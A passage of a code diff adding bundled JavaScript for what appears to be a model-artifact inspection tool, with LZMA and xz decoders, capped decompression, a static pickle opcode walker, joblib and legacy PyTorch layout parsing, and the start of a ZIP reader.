+        if (this.state >= 7) {
+          let matchByte = out2.back(this.reps[0] + 1);
+          while (symbol < 256) {
+            const matchBit = matchByte >>> 7 & 1;
+            matchByte <<= 1;
+            const bit = rc.bit(this.literal, base + (1 + matchBit << 8) + symbol);
+            symbol = symbol << 1 | bit;
+            if (matchBit !== bit) break;
+          }
+        }
+        while (symbol < 256) symbol = symbol << 1 | rc.bit(this.literal, base + symbol);
+        out2.put(symbol - 256);
+        this.state = this.state < 4 ? 0 : this.state < 10 ? this.state - 3 : this.state - 6;
+        remaining--;
+        continue;
+      }
+      let length;
+      if (rc.bit(this.isRep, this.state) !== 0) {
+        if (out2.length === out2.dictStart) throw new CorruptData2("repeated match before any data");
+        if (rc.bit(this.isRepG0, this.state) === 0) {
+          if (rc.bit(this.isRep0Long, (this.state << 4) + posState) === 0) {
+            this.state = this.state < 7 ? 9 : 11;
+            out2.put(out2.back(this.reps[0] + 1));
+            remaining--;
+            continue;
+          }
+        } else {
+          let distance2;
+          if (rc.bit(this.isRepG1, this.state) === 0) {
+            distance2 = this.reps[1];
+          } else {
+            if (rc.bit(this.isRepG2, this.state) === 0) {
+              distance2 = this.reps[2];
+            } else {
+              distance2 = this.reps[3];
+              this.reps[3] = this.reps[2];
+            }
+            this.reps[2] = this.reps[1];
+          }
+          this.reps[1] = this.reps[0];
+          this.reps[0] = distance2;
+        }
+        length = this.repLengths.decode(rc, posState);
+        this.state = this.state < 7 ? 8 : 11;
+      } else {
+        this.reps[3] = this.reps[2];
+        this.reps[2] = this.reps[1];
+        this.reps[1] = this.reps[0];
+        length = this.lengths.decode(rc, posState);
+        this.state = this.state < 7 ? 7 : 10;
+        const distance2 = this.decodeDistance(rc, length);
+        if (distance2 === 4294967295) {
+          if (!rc.finishedOk()) throw new CorruptData2("end marker with trailing range coder state");
+          return true;
+        }
+        this.reps[0] = distance2;
+      }
+      length += 2;
+      const distance = this.reps[0] + 1;
+      if (distance > this.dictSize + 1 || !out2.canReach(distance)) throw new CorruptData2("match distance beyond the dictionary");
+      if (length > remaining) throw new CorruptData2("match runs past the declared size");
+      for (let i2 = 0; i2 < length; i2++) out2.put(out2.back(distance));
+      remaining -= length;
+    }
+  }
+  decodeDistance(rc, length) {
+    const lenState = Math.min(length, 3);
+    const slot2 = rc.tree(this.posSlot, lenState * 64, 6);
+    if (slot2 < 4) return slot2;
+    const directBits = (slot2 >>> 1) - 1;
+    let distance = (2 | slot2 & 1) * 2 ** directBits;
+    if (slot2 < END_POS_MODEL_INDEX) {
+      distance += rc.reverseTree(this.posDecoders, distance - slot2 - 1, directBits);
+    } else {
+      distance += rc.direct(directBits - 4) * 16;
+      distance += rc.reverseTree(this.align, 0, 4);
+    }
+    return distance;
+  }
+};
+function run3(decode, maxOutput, sizeHint) {
+  const out2 = new OutputWindow(maxOutput, sizeHint);
+  try {
+    decode(out2);
+    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
+  } catch (error) {
+    const bytes = out2.bytes.subarray(0, out2.length);
+    if (error instanceof LimitReached2) return { bytes, limitReached: true };
+    if (error instanceof CorruptData2) return { bytes, limitReached: false, error: error.message };
+    throw error;
+  }
+}
+function decodeLzmaAlone(input, maxOutput) {
+  return run3(
+    (out2) => {
+      if (input.length < 13) throw new CorruptData2("lzma header is truncated");
+      const props = parseProperties(input[0]);
+      const dictSize = Math.max(4096, (input[1] | input[2] << 8 | input[3] << 16 | input[4] << 24) >>> 0);
+      const sizeKnown = !input.subarray(5, 13).every((b) => b === 255);
+      let size = 0;
+      for (let i2 = 12; i2 >= 5; i2--) size = size * 256 + input[i2];
+      const rc = new RangeDecoder(input, 13, input.length);
+      new LzmaState(props, dictSize).decode(rc, out2, sizeKnown ? size : null);
+    },
+    maxOutput,
+    input.length * 4
+  );
+}
+function lzma2Dictionary(byte) {
+  if (byte > 40) throw new CorruptData2("invalid LZMA2 dictionary size");
+  if (byte === 40) return 4294967295;
+  return (2 | byte & 1) * 2 ** (Math.floor(byte / 2) + 11);
+}
+function decodeLzma2(input, start2, dictSize, out2) {
+  let at = start2;
+  let state = null;
+  const need = (n) => {
+    if (at + n > input.length) throw new CorruptData2("LZMA2 data is truncated");
+  };
+  for (; ; ) {
+    need(1);
+    const control = input[at++];
+    if (control === 0) return at;
+    if (control === 1 || control === 2) {
+      need(2);
+      const size = (input[at] << 8 | input[at + 1]) + 1;
+      at += 2;
+      need(size);
+      if (control === 1) out2.dictStart = out2.length;
+      out2.putBytes(input.subarray(at, at + size));
+      at += size;
+      continue;
+    }
+    if (control < 128) throw new CorruptData2(`invalid LZMA2 control byte 0x${control.toString(16)}`);
+    need(4);
+    const unpacked = (control & 31) * 65536 + (input[at] << 8 | input[at + 1]) + 1;
+    const packed = (input[at + 2] << 8 | input[at + 3]) + 1;
+    at += 4;
+    const reset = control >>> 5 & 3;
+    if (reset === 3) out2.dictStart = out2.length;
+    if (reset >= 2) {
+      need(1);
+      const props = parseProperties(input[at++]);
+      if (props.lc + props.lp > 4) throw new CorruptData2("LZMA2 lc + lp exceeds 4");
+      if (state) state.setProperties(props);
+      else state = new LzmaState(props, dictSize);
+    }
+    if (!state) throw new CorruptData2("LZMA2 chunk without properties");
+    if (reset >= 1) state.reset();
+    need(packed);
+    const rc = new RangeDecoder(input, at, at + packed);
+    state.decode(rc, out2, unpacked);
+    at += packed;
+  }
+}
+function readVarint(input, at) {
+  let value = 0;
+  for (let i2 = 0; i2 < 9; i2++) {
+    if (at + i2 >= input.length) throw new CorruptData2("xz header is truncated");
+    const byte = input[at + i2];
+    value += (byte & 127) * 2 ** (7 * i2);
+    if ((byte & 128) === 0) return [value, at + i2 + 1];
+  }
+  throw new CorruptData2("xz varint is too long");
+}
+var CHECK_SIZES = [0, 4, 4, 4, 8, 8, 8, 16, 16, 16, 32, 32, 32, 64, 64, 64];
+function decodeXz(input, maxOutput) {
+  return run3(
+    (out2) => {
+      if (input.length < 12) throw new CorruptData2("xz header is truncated");
+      const checkSize = CHECK_SIZES[input[7] & 15];
+      let at = 12;
+      for (; ; ) {
+        if (at >= input.length) throw new CorruptData2("xz stream is truncated");
+        const headerByte = input[at];
+        if (headerByte === 0) return;
+        const headerSize = (headerByte + 1) * 4;
+        if (at + headerSize > input.length) throw new CorruptData2("xz block header is truncated");
+        const flags2 = input[at + 1];
+        let p = at + 2;
+        if (flags2 & 64) p = readVarint(input, p)[1];
+        if (flags2 & 128) p = readVarint(input, p)[1];
+        const filters = (flags2 & 3) + 1;
+        let dictSize = 0;
+        for (let i2 = 0; i2 < filters; i2++) {
+          const [id, afterId] = readVarint(input, p);
+          const [propsSize, afterSize] = readVarint(input, afterId);
+          if (id !== 33 || i2 !== filters - 1) throw new CorruptData2(`xz filter 0x${id.toString(16)} is not supported`);
+          if (propsSize !== 1) throw new CorruptData2("xz LZMA2 properties are malformed");
+          dictSize = lzma2Dictionary(input[afterSize]);
+          p = afterSize + propsSize;
+        }
+        const dataEnd = decodeLzma2(input, at + headerSize, dictSize, out2);
+        at = dataEnd + (4 - dataEnd % 4) % 4 + checkSize;
+      }
+    },
+    maxOutput,
+    input.length * 4
+  );
+}
+
+// src/artifacts/containers/decompress.ts
+var INPUT_CHUNK = 1 << 20;
+var SNIFF_INPUT = 4 << 20;
+var SYNC_INFLATE_INPUT = 1 << 20;
+var inflaters = /* @__PURE__ */ new Map([
+  ["gzip", gunzip],
+  ["zlib", inflateZlib],
+  ["deflate-raw", inflateRaw]
+]);
+var syncDecoders = /* @__PURE__ */ new Map([
+  ["bz2", decodeBzip2],
+  ["xz", decodeXz],
+  ["lzma", decodeLzmaAlone]
+]);
+async function decompress(format, input, options) {
+  const cap = Math.max(0, Math.min(options.limit, options.want ?? Number.POSITIVE_INFINITY));
+  const syncDecoder = syncDecoders.get(format);
+  if (syncDecoder) {
+    if (options.want !== void 0 && input.size > SNIFF_INPUT) {
+      const partial = syncDecoder(await readRange(input, 0, SNIFF_INPUT), cap);
+      if (partial.bytes.length >= cap) return { bytes: partial.bytes, limitReached: partial.limitReached && hitsLimit(options) };
+    }
+    if (input.size > options.limit) {
+      return { bytes: new Uint8Array(0), limitReached: true, error: `compressed ${format} data larger than the decompression limit` };
+    }
+    const result2 = syncDecoder(await readRange(input, 0, input.size), cap);
+    return { ...result2, limitReached: result2.limitReached && hitsLimit(options) };
+  }
+  const inflater = inflaters.get(format);
+  if (inflater) {
+    const result2 = await inflateSync(inflater, format, input, cap, options);
+    if (result2) return result2;
+  }
+  return streamDecompress(format === "zlib" ? "deflate" : format, input, cap, options);
+}
+async function inflateSync(inflater, format, input, cap, options) {
+  let length = options.want === void 0 ? input.size : Math.min(input.size, 2 * cap + 4096);
+  for (; length <= SYNC_INFLATE_INPUT; length = Math.min(input.size, length * 4)) {
+    let bytes;
+    try {
+      bytes = await readRange(input, 0, length);
+    } catch (error) {
+      return { bytes: new Uint8Array(0), limitReached: false, error: describe(error) };
+    }
+    const result2 = inflater(bytes, cap);
+    const whole = length >= input.size || bytes.length < length;
+    const cut = result2.truncated || format === "gzip" && result2.consumed >= bytes.length;
+    if (whole || result2.bytes.length >= cap || !cut) return settle(result2, cap, options);
+  }
+  return null;
+}
+function settle(result2, cap, options) {
+  const stopped = cap > 0 ? result2.bytes.length >= cap : result2.limitReached;
+  const error = stopped ? void 0 : result2.error;
+  return { bytes: result2.bytes, limitReached: stopped && hitsLimit(options), ...error ? { error } : {} };
+}
+async function streamDecompress(format, input, cap, options) {
+  const stream = new DecompressionStream(format);
+  const writer = stream.writable.getWriter();
+  const reader = stream.readable.getReader();
+  let stopped = false;
+  let feedError;
+  const feeding = (async () => {
+    try {
+      for (let at = 0; at < input.size && !stopped; at += INPUT_CHUNK) {
+        const chunk = await readRange(input, at, INPUT_CHUNK);
+        if (chunk.length === 0) break;
+        await writer.write(chunk);
+      }
+      if (!stopped) await writer.close();
+    } catch (error2) {
+      feedError = error2;
+    }
+  })();
+  const chunks = [];
+  let total = 0;
+  let error;
+  let limitReached = false;
+  try {
+    for (; ; ) {
+      const { value, done } = await reader.read();
+      if (done) break;
+      chunks.push(value);
+      total += value.length;
+      if (total >= cap) {
+        limitReached = hitsLimit(options);
+        break;
+      }
+    }
+  } catch (caught) {
+    error = describe(caught);
+  }
+  stopped = true;
+  await reader.cancel().catch(() => void 0);
+  await writer.abort().catch(() => void 0);
+  await feeding;
+  if (!error && feedError && total < cap) error = describe(feedError);
+  return { bytes: concatBytes(chunks, Math.min(total, cap)), limitReached, ...error ? { error } : {} };
+}
+function hitsLimit(options) {
+  return options.want === void 0 || options.want >= options.limit;
+}
+function describe(error) {
+  return error instanceof Error ? error.message : String(error);
+}
+
+// src/core/hash.ts
+function stableHash(text) {
+  let h1 = 3735928559;
+  let h2 = 1103547991;
+  for (let i2 = 0; i2 < text.length; i2++) {
+    const c = text.charCodeAt(i2);
+    h1 = Math.imul(h1 ^ c, 2654435761);
+    h2 = Math.imul(h2 ^ c, 1597334677);
+  }
+  h1 = Math.imul(h1 ^ h1 >>> 16, 2246822507) ^ Math.imul(h2 ^ h2 >>> 13, 3266489909);
+  h2 = Math.imul(h2 ^ h2 >>> 16, 2246822507) ^ Math.imul(h1 ^ h1 >>> 13, 3266489909);
+  return (h2 >>> 0).toString(16).padStart(8, "0") + (h1 >>> 0).toString(16).padStart(8, "0");
+}
+
+// src/artifacts/containers/cursor.ts
+var WINDOW = 1 << 20;
+var ByteCursor = class {
+  constructor(source, start2 = 0) {
+    this.source = source;
+    this.position = start2;
+  }
+  source;
+  buffer = new Uint8Array(0);
+  bufferStart = 0;
+  position;
+  get remaining() {
+    return Math.max(0, this.source.size - this.position);
+  }
+  /** Makes `count` bytes from the position available; false at end of source. */
+  async need(count) {
+    if (this.position + count > this.source.size) return false;
+    const offset = this.position - this.bufferStart;
+    if (offset >= 0 && offset + count <= this.buffer.length) return true;
+    this.buffer = await readRange(this.source, this.position, Math.max(WINDOW, count));
+    this.bufferStart = this.position;
+    return this.buffer.length >= count;
+  }
+  /** Bytes at the position; only valid after a successful need(count). */
+  peek(count) {
+    const offset = this.position - this.bufferStart;
+    return this.buffer.subarray(offset, offset + count);
+  }
+  async take(count) {
+    if (!await this.need(count)) return null;
+    const bytes = this.peek(count);
+    this.position += count;
+    return bytes;
+  }
+  /** Bytes up to (not including) the next newline, consuming the newline; null if none within `max`. */
+  async line(max) {
+    const available = Math.min(max + 1, this.remaining);
+    if (!await this.need(available)) return null;
+    const window2 = this.peek(available);
+    const end = window2.indexOf(10);
+    if (end < 0) return null;
+    this.position += end + 1;
+    return window2.subarray(0, end);
+  }
+};
+
+// src/artifacts/containers/pickle-walk.ts
+var OTHER = { t: "other" };
+var MAX_LINE = 1 << 16;
+var MAX_MEMO = 1 << 20;
+var MAX_CONTAINER_ITEMS = 1 << 16;
+var MAX_STACK = 1 << 20;
+var MAX_TRACKED_STRING = 1 << 16;
+var SKIPPED = new Uint8Array(0);
+var LARGE_STRING = 1 << 20;
+async function walkPickle(cursor, maxOpcodes, hooks = {}) {
+  const stack = [];
+  const memo = /* @__PURE__ */ new Map();
+  let opcodes = 0;
+  const fail = (message15, offset) => ({ end: null, error: { message: message15, offset }, opcodes });
+  const pop = () => stack.pop() ?? OTHER;
+  const popToMark = () => {
+    const items = [];
+    while (stack.length > 0) {
+      const value = stack.pop();
+      if (value.t === "mark") break;
+      if (items.length < MAX_CONTAINER_ITEMS) items.push(value);
+    }
+    return items.reverse();
+  };
+  const setMemo = (key, value) => {
+    if (memo.size < MAX_MEMO || memo.has(key)) memo.set(key, value);
+  };
+  const sized = async (lengthBytes, read) => {
+    const lengthField = cursor.position;
+    const head = await cursor.take(lengthBytes);
+    if (!head) return null;
+    const length = read(head);
+    if (!Number.isFinite(length) || length < 0) return null;
+    if (length <= MAX_TRACKED_STRING) return cursor.take(length);
+    if (cursor.position + length > cursor.source.size) return null;
+    if (length > LARGE_STRING) hooks.largeString?.({ lengthField, lengthSize: lengthBytes, payload: cursor.position, length });
+    cursor.position += length;
+    return SKIPPED;
+  };
+  while (opcodes < maxOpcodes) {
+    const at = cursor.position;
+    if (stack.length > MAX_STACK) return fail(`stack deeper than ${MAX_STACK} entries`, at);
+    const opBytes = await cursor.take(1);
+    if (!opBytes) return fail("pickle ends without STOP", at);
+    const op = opBytes[0];
+    opcodes++;
+    switch (op) {
+      case 46:
+        return { end: cursor.position, value: stack[stack.length - 1] ?? OTHER, opcodes };
+      case 128:
+        if (!await cursor.take(1)) return fail("truncated PROTO", at);
+        break;
+      case 149:
+        if (!await cursor.take(8)) return fail("truncated FRAME", at);
+        break;
+      case 40:
+        stack.push({ t: "mark" });
+        break;
+      case 78:
+        stack.push({ t: "none" });
+        break;
+      case 136:
+      // NEWTRUE
+      case 137:
+        stack.push({ t: "bool", v: op === 136 });
+        break;
+      case 74: {
+        const b = await cursor.take(4);
+        if (!b) return fail("truncated BININT", at);
+        stack.push({ t: "int", v: i32le(b, 0) });
+        break;
+      }
+      case 75: {
+        const b = await cursor.take(1);
+        if (!b) return fail("truncated BININT1", at);
+        stack.push({ t: "int", v: b[0] });
+        break;
+      }
+      case 77: {
+        const b = await cursor.take(2);
+        if (!b) return fail("truncated BININT2", at);
+        stack.push({ t: "int", v: u16le(b, 0) });
+        break;
+      }
+      case 138:
+      // LONG1
+      case 139: {
+        const body2 = await sized(op === 138 ? 1 : 4, (h) => op === 138 ? h[0] : u32le(h, 0));
+        if (!body2) return fail("truncated LONG", at);
+        stack.push(smallLong(body2));
+        break;
+      }
+      case 73:
+      // INT
+      case 76: {
+        const line = await cursor.line(MAX_LINE);
+        if (!line) return fail("unterminated INT/LONG", at);
+        const text = latin1(line).replace(/L$/, "");
+        if (op === 73 && (text === "00" || text === "01")) stack.push({ t: "bool", v: text === "01" });
+        else stack.push(/^-?\d{1,15}$/.test(text) ? { t: "int", v: Number(text) } : OTHER);
+        break;
+      }
+      case 70:
+      // FLOAT
+      case 83:
+      // STRING
+      case 86: {
+        const line = await cursor.line(MAX_LINE);
+        if (!line) return fail("unterminated text argument", at);
+        if (op === 70) stack.push(OTHER);
+        else stack.push({ t: "str", v: op === 83 ? latin1(line).replace(/^(['"])(.*)\1$/s, "$2") : latin1(line) });
+        break;
+      }
+      case 71:
+        if (!await cursor.take(8)) return fail("truncated BINFLOAT", at);
+        stack.push(OTHER);
+        break;
+      case 84:
+      // BINSTRING
+      case 66:
+      // BINBYTES
+      case 88: {
+        const body2 = await sized(4, (h) => u32le(h, 0));
+        if (!body2) return fail("truncated string", at);
+        stack.push({ t: "str", v: op === 88 ? utf8(body2) : latin1(body2) });
+        break;
+      }
+      case 85:
+      // SHORT_BINSTRING
+      case 67:
+      // SHORT_BINBYTES
+      case 140: {
+        const body2 = await sized(1, (h) => h[0]);
+        if (!body2) return fail("truncated string", at);
+        stack.push({ t: "str", v: op === 140 ? utf8(body2) : latin1(body2) });
+        break;
+      }
+      case 141:
+      // BINUNICODE8
+      case 142:
+      // BINBYTES8
+      case 150: {
+        const body2 = await sized(8, (h) => u64le(h, 0));
+        if (!body2) return fail("truncated string", at);
+        stack.push(op === 141 ? { t: "str", v: utf8(body2) } : OTHER);
+        break;
+      }
+      case 41:
+        stack.push({ t: "tuple", items: [] });
+        break;
+      case 116:
+        stack.push({ t: "tuple", items: popToMark() });
+        break;
+      case 133:
+      // TUPLE1
+      case 134:
+      // TUPLE2
+      case 135: {
+        const count = op - 132;
+        const items = stack.splice(Math.max(0, stack.length - count), count);
+        stack.push({ t: "tuple", items });
+        break;
+      }
+      case 93:
+      // EMPTY_LIST
+      case 143:
+        stack.push(OTHER);
+        break;
+      case 108:
+      // LIST
+      case 145:
+        popToMark();
+        stack.push(OTHER);
+        break;
+      case 97:
+        pop();
+        break;
+      case 101:
+      // APPENDS
+      case 144:
+        popToMark();
+        break;
+      case 125:
+        stack.push({ t: "dict", entries: /* @__PURE__ */ new Map() });
+        break;
+      case 100: {
+        const items = popToMark();
+        const dict = { t: "dict", entries: /* @__PURE__ */ new Map() };
+        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(dict, items[i2], items[i2 + 1]);
+        stack.push(dict);
+        break;
+      }
+      case 115: {
+        const value = pop();
+        const key = pop();
+        setEntry(stack[stack.length - 1], key, value);
+        break;
+      }
+      case 117: {
+        const items = popToMark();
+        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(stack[stack.length - 1], items[i2], items[i2 + 1]);
+        break;
+      }
+      case 48:
+        pop();
+        break;
+      case 49:
+        popToMark();
+        break;
+      case 50:
+        stack.push(stack[stack.length - 1] ?? OTHER);
+        break;
+      case 99: {
+        const module2 = await cursor.line(MAX_LINE);
+        const name2 = module2 && await cursor.line(MAX_LINE);
+        if (!module2 || !name2) return fail("unterminated GLOBAL", at);
+        stack.push({ t: "global", name: `${latin1(module2)}.${latin1(name2)}` });
+        break;
+      }
+      case 147: {
+        const name2 = pop();
+        const module2 = pop();
+        stack.push(
+          module2.t === "str" && name2.t === "str" ? { t: "global", name: `${module2.v}.${name2.v}` } : OTHER
+        );
+        break;
+      }
+      case 105: {
+        const module2 = await cursor.line(MAX_LINE);
+        const name2 = module2 && await cursor.line(MAX_LINE);
+        if (!module2 || !name2) return fail("unterminated INST", at);
+        const args2 = popToMark();
+        stack.push({ t: "obj", cls: `${latin1(module2)}.${latin1(name2)}`, args: { t: "tuple", items: args2 } });
+        break;
+      }
+      case 111: {
+        const items = popToMark();
+        const cls = items.shift();
+        stack.push({ t: "obj", cls: cls?.t === "global" ? cls.name : "?", args: { t: "tuple", items } });
+        break;
+      }
+      case 82:
+      // REDUCE
+      case 129: {
+        const args2 = pop();
+        const callable = pop();
+        stack.push({ t: "obj", cls: callable.t === "global" ? callable.name : "?", args: args2 });
+        break;
+      }
+      case 146: {
+        pop();
+        const args2 = pop();
+        const cls = pop();
+        stack.push({ t: "obj", cls: cls.t === "global" ? cls.name : "?", args: args2 });
+        break;
+      }
+      case 98: {
+        const state = pop();
+        const target = stack[stack.length - 1];
+        if (target?.t === "obj") target.state = state;
+        if (hooks.afterBuild && target) {
+          const skip = await hooks.afterBuild(target, cursor.position, cursor);
+          if (skip < 0) return fail("raw data after BUILD could not be sized", at);
+          if (skip > 0) {
+            if (cursor.position + skip > cursor.source.size) return fail("raw data after BUILD is truncated", at);
+            cursor.position += skip;
+            stack[stack.length - 1] = OTHER;
+          }
+        }
+        break;
+      }
+      case 103:
+      // GET
+      case 112: {
+        const line = await cursor.line(MAX_LINE);
+        if (!line) return fail("unterminated GET/PUT", at);
+        const key = Number(latin1(line));
+        if (op === 103) stack.push(memo.get(key) ?? OTHER);
+        else setMemo(key, stack[stack.length - 1] ?? OTHER);
+        break;
+      }
+      case 104:
+      // BINGET
+      case 106:
+      // LONG_BINGET
+      case 113:
+      // BINPUT
+      case 114: {
+        const wide = op === 106 || op === 114;
+        const b = await cursor.take(wide ? 4 : 1);
+        if (!b) return fail("truncated memo opcode", at);
+        const key = wide ? u32le(b, 0) : b[0];
+        if (op === 104 || op === 106) stack.push(memo.get(key) ?? OTHER);
+        else setMemo(key, stack[stack.length - 1] ?? OTHER);
+        break;
+      }
+      case 148:
+        setMemo(memo.size, stack[stack.length - 1] ?? OTHER);
+        break;
+      case 80:
+        if (!await cursor.line(MAX_LINE)) return fail("unterminated PERSID", at);
+        stack.push(OTHER);
+        break;
+      case 81:
+        pop();
+        stack.push(OTHER);
+        break;
+      case 130:
+      // EXT1
+      case 131:
+      // EXT2
+      case 132:
+        if (!await cursor.take(op === 130 ? 1 : op === 131 ? 2 : 4)) return fail("truncated EXT", at);
+        stack.push(OTHER);
+        break;
+      case 151:
+        stack.push(OTHER);
+        break;
+      case 152:
+        break;
+      default:
+        return fail(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`, at);
+    }
+  }
+  return fail(`stopped after ${maxOpcodes} opcodes`, cursor.position);
+}
+function setEntry(target, key, value) {
+  if (target?.t !== "dict" || key.t !== "str") return;
+  if (target.entries.size < MAX_CONTAINER_ITEMS) target.entries.set(key.v, value);
+}
+function smallLong(body2) {
+  if (body2.length === 0) return { t: "int", v: 0 };
+  if (body2.length > 6) return body2.length === 8 ? maybe(i64le(body2, 0)) : OTHER;
+  let value = 0;
+  for (let i2 = body2.length - 1; i2 >= 0; i2--) value = value * 256 + body2[i2];
+  if (body2[body2.length - 1] & 128) value -= 2 ** (8 * body2.length);
+  return { t: "int", v: value };
+}
+function maybe(value) {
+  return Number.isNaN(value) ? OTHER : { t: "int", v: value };
+}
+
+// src/artifacts/containers/joblib.ts
+async function locateJoblibArrays(source, start2, maxOpcodes) {
+  const arrays = [];
+  const largeStrings = [];
+  const cursor = new ByteCursor(source, start2);
+  let sizingError;
+  const result2 = await walkPickle(cursor, maxOpcodes, {
+    async afterBuild(built, next, inner) {
+      if (built.t !== "obj" || !isArrayWrapper(built.cls)) return 0;
+      const sized = await sizeArray(built, next, inner, maxOpcodes);
+      if (typeof sized === "string") {
+        sizingError = sized;
+        return -1;
+      }
+      arrays.push(sized);
+      return sized.length;
+    },
+    largeString: (region2) => largeStrings.push(region2)
+  });
+  const error = result2.error && sizingError ? { ...result2.error, message: sizingError } : result2.error;
+  return { arrays, largeStrings, end: result2.end, ...error ? { error } : {} };
+}
+function isArrayWrapper(cls) {
+  return cls.endsWith("numpy_pickle.NumpyArrayWrapper");
+}
+async function sizeArray(wrapper, offset, cursor, maxOpcodes) {
+  const state = wrapper.state?.t === "dict" ? wrapper.state.entries : void 0;
+  if (!state) return "joblib array wrapper without a state dict";
+  const dtype = describeDtype(state.get("dtype"));
+  if (!dtype) return "joblib array wrapper with an unrecognised dtype";
+  const shapeValue = state.get("shape");
+  const shape = shapeValue?.t === "tuple" && shapeValue.items.every((i2) => i2.t === "int" && i2.v >= 0) ? shapeValue.items.map((i2) => i2.v) : null;
+  if (!shape) return "joblib array wrapper with an unreadable shape";
+  if (dtype.object) {
+    const nested = await walkPickle(new ByteCursor(cursor.source, offset), maxOpcodes);
+    if (nested.end === null) return `joblib object array pickle is broken: ${nested.error?.message ?? "no STOP"}`;
+    return { offset, length: nested.end - offset, dtype: dtype.code, shape, objectPickle: true };
+  }
+  const count = shape.reduce((a, b) => a * b, 1);
+  const bytes = count * dtype.itemsize;
+  if (!Number.isSafeInteger(bytes)) return "joblib array size overflows";
+  let padding = 0;
+  const alignment = state.get("numpy_array_alignment_bytes");
+  if (alignment && alignment.t !== "none") {
+    const padByte = await cursor.take(1);
+    cursor.position = offset;
+    if (!padByte) return "joblib array padding byte is missing";
+    padding = 1 + padByte[0];
+  }
+  return { offset, length: padding + bytes, dtype: dtype.code, shape, objectPickle: false };
+}
+function describeDtype(value) {
+  if (value?.t !== "obj" || !/(^|\.)dtype$/.test(value.cls)) return null;
+  const code3 = value.args?.t === "tuple" && value.args.items[0]?.t === "str" ? value.args.items[0].v : null;
+  if (code3 === null) return null;
+  const state = value.state?.t === "tuple" ? value.state.items : [];
+  const fields = state[3];
+  if (fields && fields.t !== "none") return null;
+  const match = /^[<>|=]?([a-zA-Z])(\d*)/.exec(code3);
+  if (!match) return null;
+  const kind = match[1];
+  if (kind === "O") return { code: code3, itemsize: 8, object: true };
+  let itemsize = match[2] ? Number(match[2]) : 0;
+  if (kind === "U") itemsize *= 4;
+  if (kind === "M" || kind === "m") itemsize = itemsize || 8;
+  if (kind === "V" && itemsize === 0) {
+    const elsize = state[5];
+    itemsize = elsize?.t === "int" && elsize.v > 0 ? elsize.v : 0;
+  }
+  if (kind === "?" || kind === "b" && itemsize === 0) itemsize = 1;
+  if (!(itemsize > 0)) return null;
+  return { code: code3, itemsize, object: false };
+}
+
+// src/artifacts/containers/torch-legacy.ts
+var MAGIC_LONG1 = [138, 10, 108, 252, 156, 70, 249, 32, 106, 168, 80, 25];
+var LEGACY_STACKED_PICKLES = 5;
+function isLegacyTorchMagic(firstPickle) {
+  return indexOf(firstPickle.subarray(0, 32), MAGIC_LONG1) >= 0;
+}
+var ELEMENT_SIZES = {
+  DoubleStorage: 8,
+  FloatStorage: 4,
+  HalfStorage: 2,
+  LongStorage: 8,
+  IntStorage: 4,
+  ShortStorage: 2,
+  CharStorage: 1,
+  ByteStorage: 1,
+  BoolStorage: 1,
+  BFloat16Storage: 2,
+  ComplexFloatStorage: 8,
+  ComplexDoubleStorage: 16,
+  QInt8Storage: 1,
+  QUInt8Storage: 1,
+  QInt32Storage: 4
+};
+var MAX_RECORDS = 1 << 20;
+async function locateLegacyStorages(source, maxOpcodes) {
+  return walkRecords(source, maxOpcodes, "storage", async (value, cursor) => {
+    const type = value?.t === "tuple" ? value.items[2] : void 0;
+    const typeName2 = type?.t === "global" ? type.name.slice(type.name.lastIndexOf(".") + 1) : "";
+    const elementSize = ELEMENT_SIZES[typeName2];
+    if (!elementSize) return `unknown storage type ${typeName2 || "(untracked)"}`;
+    const sizeBytes = await cursor.take(8);
+    const count = sizeBytes ? i64le(sizeBytes, 0) : Number.NaN;
+    if (!(count >= 0)) return "storage size is missing or invalid";
+    return count * elementSize;
+  });
+}
+async function locateLegacyTensors(source, maxOpcodes) {
+  return walkRecords(source, maxOpcodes, "tensor", async (_value, cursor) => {
+    const head = await cursor.take(8);
+    const ndim = head ? i32le(head, 0) : -1;
+    if (ndim < 0 || ndim > 64) return "tensor rank is missing or invalid";
+    return 16 * ndim + 8;
+  });
+}
+async function walkRecords(source, maxOpcodes, what, skipAfter) {
+  const layout = { pickles: [], warnings: [] };
+  const cursor = new ByteCursor(source, 0);
+  const countWalk = await walkPickle(cursor, maxOpcodes);
+  if (countWalk.end === null) {
+    layout.warnings.push(`${what} count pickle is broken: ${countWalk.error?.message ?? "no STOP"}`);
+    layout.pickles.push({ start: 0, end: source.size, label: `${what} count` });
+    return layout;
+  }
+  layout.pickles.push({ start: 0, end: countWalk.end, label: `${what} count` });
+  const count = countWalk.value?.t === "int" ? countWalk.value.v : -1;
+  if (count < 0) {
+    layout.warnings.push(`${what} count is not an integer; the rest of the member was not inspected`);
+    return layout;
+  }
+  for (let i2 = 0; i2 < Math.min(count, MAX_RECORDS); i2++) {
+    const start2 = cursor.position;
+    if (start2 >= source.size) {
+      layout.warnings.push(`${what} records end after ${i2} of ${count}`);
+      break;
+    }
+    const walk = await walkPickle(cursor, maxOpcodes);
+    layout.pickles.push({ start: start2, end: walk.end ?? source.size, label: `${what} ${i2}` });
+    if (walk.end === null) {
+      layout.warnings.push(`${what} ${i2} pickle is broken: ${walk.error?.message ?? "no STOP"}`);
+      break;
+    }
+    const skip = await skipAfter(walk.value, cursor);
+    if (typeof skip === "string") {
+      layout.warnings.push(`${what} ${i2}: ${skip}; the rest of the member was not inspected`);
+      break;
+    }
+    cursor.position += skip;
+  }
+  return layout;
+}
+
+// src/artifacts/containers/zip.ts
+var LOCAL_SIG = ascii("PK");
+var CENTRAL_SIG = ascii("PK");
+var EOCD_SIG = ascii("PK");
+var ZIP64_EOCD_SIG = ascii("PK");
+var ZIP64_LOCATOR_SIG = ascii("PK\x07");
+var DESCRIPTOR_SIG = ascii("PK\x07\b");
+var EOCD_SEARCH = 22 + 65535;
+var MAX_CENTRAL_DIRECTORY = 64 << 20;
+var SCAN_CHUNK = 1 << 20;
+var METHOD_STORED = 0;
+var METHOD_DEFLATE = 8;
+var METHOD_BZIP2 = 12;
+var METHOD_LZMA = 14;
+function zipLzmaAsAlone(member, uncompressedSize) {
+  if (member.length < 4) return null;
+  const propsSize = u16le(member, 2);
+  if (propsSize !== 5 || member.length < 4 + propsSize) return null;
+  const out2 = new Uint8Array(5 + 8 + member.length - 9);
+  out2.set(member.subarray(4, 9), 0);
+  let size = Number.isSafeInteger(uncompressedSize) && uncompressedSize >= 0 && uncompressedSize !== 4294967295 ? uncompressedSize : -1;
